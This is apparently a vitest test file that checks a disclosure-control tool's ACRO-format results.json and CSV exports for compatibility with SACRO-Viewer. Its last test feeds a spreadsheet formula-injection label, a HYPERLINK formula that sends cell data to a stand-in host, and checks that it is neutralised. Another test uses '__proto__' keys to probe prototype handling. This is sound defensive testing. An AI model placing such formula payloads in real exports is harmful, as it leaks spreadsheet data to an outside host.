// results.json in ACRO's layout, so ACRO and SACRO-Viewer can open our outputs. The layout is taken
// from AI-SDC/ACRO v0.4.12 (acro/record.py Records.finalise_json: keys of each output record;
// acro/acro_tables.py get_table_sdc: sdc.summary and sdc.cells with the six flags, get_summary: the
// summary text) and from AI-SDC/SACRO-Viewer (sacro/models.py ACROOutputs: the structural checks
// and cell_index built from sdc.cells as [row, column]; sacro/versioning.py: version "0.4.x" or newer;
// assets/src/scripts/_table-builder.js: rows and columns count from the first data row and column).
import { describe, expect, it } from 'vitest';
import { toAcroResults } from '../../../src/common/sdc/acro.ts';
import { check } from './helpers.ts';

const input = {
  table: {
    dimensions: ['region', 'sex'],
    cells: [
      { key: { region: 'North', sex: 'F' }, count: 12 },
      { key: { region: 'North', sex: 'M' }, count: 3 },
      { key: { region: 'South', sex: 'F' }, count: 40 },
      { key: { region: 'South', sex: 'M' }, count: 35 },
      { key: { region: 'East', sex: 'F' }, count: 50 },
      { key: { region: 'East', sex: 'M' }, count: 45 },
    ],
    totals: 'published',
  },
};

async function written() {
  const output = await check(input);
  return { output, ...toAcroResults(output, { uid: 'output_0', command: 'enclave sdc check t.json', timestamp: '2026-11-26T12:00:00' }) };
}

/** SACRO-Viewer's "super basic structural validation" (sacro/models.py ACROOutputs.__post_init__). */
function viewerAccepts(raw: Record<string, unknown>): boolean {
  if (!('version' in raw) || !('results' in raw)) return false;
  const [major, minor] = String(raw['version']).split('.').map(Number);
  if (!Number.isInteger(major) || !Number.isInteger(minor) || major * 1000 + minor < 4) return false;
  return Object.values(raw['results'] as Record<string, { files?: { name?: string }[] }>).every(
    (r) => Array.isArray(r.files) && r.files.length > 0 && r.files.every((f) => typeof f.name === 'string'),
  );
}

function parseCsv(text: string): string[][] {
  return text
    .trimEnd()
    .split('\n')
    .map((line) => line.split(','));
}

describe('ACRO results.json', () => {
  it('has ACRO 0.4.12 finalise_json keys, in its order', async () => {
    const { results } = await written();
    expect(Object.keys(results)).toEqual(['version', 'results']);
    expect(results.version).toBe('0.4.12');
    const record = results.results['output_0'];
    expect(Object.keys(record ?? {})).toEqual([
      'uid',
      'status',
      'type',
      'properties',
      'files',
      'outcome',
      'command',
      'summary',
      'timestamp',
      'comments',
      'exception',
    ]);
    expect(record).toMatchObject({ uid: 'output_0', type: 'table', properties: { method: 'crosstab' }, exception: '' });
  });

  it('holds, per file, the sdc summary and flagged cells with every ACRO flag', async () => {
    const { results } = await written();
    const file = results.results['output_0']?.files[0];
    expect(file?.name).toBe('output_0_0.csv');
    const flags = ['negative', 'missing', 'threshold', 'p-ratio', 'nk-rule', 'all-values-are-same'];
    expect(Object.keys(file?.sdc.summary ?? {})).toEqual(['suppressed', ...flags, 'secondary']);
    expect(Object.keys(file?.sdc.cells ?? {})).toEqual([...flags, 'secondary']);
    expect(file?.sdc.summary).toMatchObject({ suppressed: true, threshold: 1, negative: 0, missing: 0 });
    expect(file?.sdc.cells['threshold']).toEqual([[0, 1]]);
  });

  it('writes the summary as ACRO does: status first, then counts per flag', async () => {
    const { results } = await written();
    const summary = results.results['output_0']?.summary ?? '';
    expect(summary.startsWith('pass; threshold: 1 cells suppressed; ')).toBe(true);
    expect(summary).toMatch(/secondary: \d+ cells suppressed; $/);
  });

  it('is accepted by SACRO-Viewer, and its flagged positions point at the hidden CSV cells', async () => {
    const { results, files, output } = await written();
    expect(viewerAccepts(JSON.parse(JSON.stringify(results)) as Record<string, unknown>)).toBe(true);
    const csv = parseCsv(files[0]?.csv ?? '');
    expect(csv[0]).toEqual(['region', 'F', 'M', 'All']);
    expect(csv.map((row) => row[0])).toEqual(['region', 'North', 'South', 'East', 'All']);
    const sdc = results.results['output_0']?.files[0]?.sdc;
    const flagged = [...(sdc?.cells['threshold'] ?? []), ...(sdc?.cells['secondary'] ?? [])];
    expect(flagged.length).toBe([...output.cells, ...output.totals].filter((c) => c.published === null).length);
    for (const [row, col] of flagged) expect(csv[row + 1]?.[col + 1]).toBe('');
  });

  it('marks the outcome of each cell as ACRO does ("ok" or the flags)', async () => {
    const { results } = await written();
    const outcome = results.results['output_0']?.outcome ?? {};
    expect(Object.keys(outcome)).toEqual(['F', 'M', 'All']);
    expect(outcome['M']?.['North']).toBe('threshold; ');
    expect(outcome['All']?.['All']).toBe('ok');
  });

  it('keeps the outcome of a category called "__proto__" (an own key, not the object\'s prototype)', async () => {
    const output = await check({
      table: {
        dimensions: ['region', 'sex'],
        cells: [
          { key: { region: '__proto__', sex: '__proto__' }, count: 3 },
          { key: { region: '__proto__', sex: 'F' }, count: 40 },
          { key: { region: 'South', sex: '__proto__' }, count: 35 },
          { key: { region: 'South', sex: 'F' }, count: 50 },
        ],
      },
    });
    const { results } = toAcroResults(output, { uid: 'output_0', command: 'c', timestamp: 't' });
    const outcome = JSON.parse(JSON.stringify(results.results['output_0']?.outcome)) as Record<string, Record<string, string>>;
    expect(Object.keys(outcome)).toEqual(['__proto__', 'F', 'All']);
    expect(Object.getOwnPropertyDescriptor(outcome['__proto__'], '__proto__')?.value).toBe('threshold; ');
    // Hidden to protect the small one.
    expect(Object.getOwnPropertyDescriptor(outcome['F'], '__proto__')?.value).toBe('secondary; ');
  });

  it('reports negative values as ACRO does, with status review', async () => {
    const output = await check({
      table: {
        dimensions: ['x'],
        cells: [
          { key: { x: 'a' }, count: -1 },
          { key: { x: 'b' }, count: 20 },
        ],
      },
    });
    const { results } = toAcroResults(output, { uid: 'output_3', command: 'c', timestamp: 't' });
    const record = results.results['output_3'];
    expect(record?.status).toBe('review');
    expect(record?.summary).toBe('review; negative values found');
    expect(record?.files[0]?.sdc.cells['negative']).toEqual([[0, 0]]);
  });
});

describe('a CSV that leaves the environment (the release package)', () => {
  it('writes a label a spreadsheet would run as a formula after an apostrophe, and quotes a CR; the command’s own output is unchanged', async () => {
    const output = await check({
      table: {
        dimensions: ['x'],
        cells: [
          { key: { x: '=HYPERLINK("http://x/?"&A1)' }, count: 20 },
          { key: { x: '+1' }, count: 20 },
          { key: { x: 'a\rb' }, count: 20 },
        ],
      },
    });
    const safe = toAcroResults(output, { uid: 'output_0', command: 'c', timestamp: 't', spreadsheetSafe: true }).files[0]?.csv ?? '';
    expect(safe).toContain(`"'=HYPERLINK(""http://x/?""&A1)"`);
    expect(safe).toContain("'+1,");
    expect(safe).toContain('"a\rb"');
    expect(safe.split('\n').every((line) => !line.startsWith('=') && !line.startsWith('+'))).toBe(true);
    const plain = toAcroResults(output, { uid: 'output_0', command: 'c', timestamp: 't' }).files[0]?.csv ?? '';
    expect(plain).toContain('"=HYPERLINK(""http://x/?""&A1)"');
    expect(plain).toContain('\n+1,');
  });
});
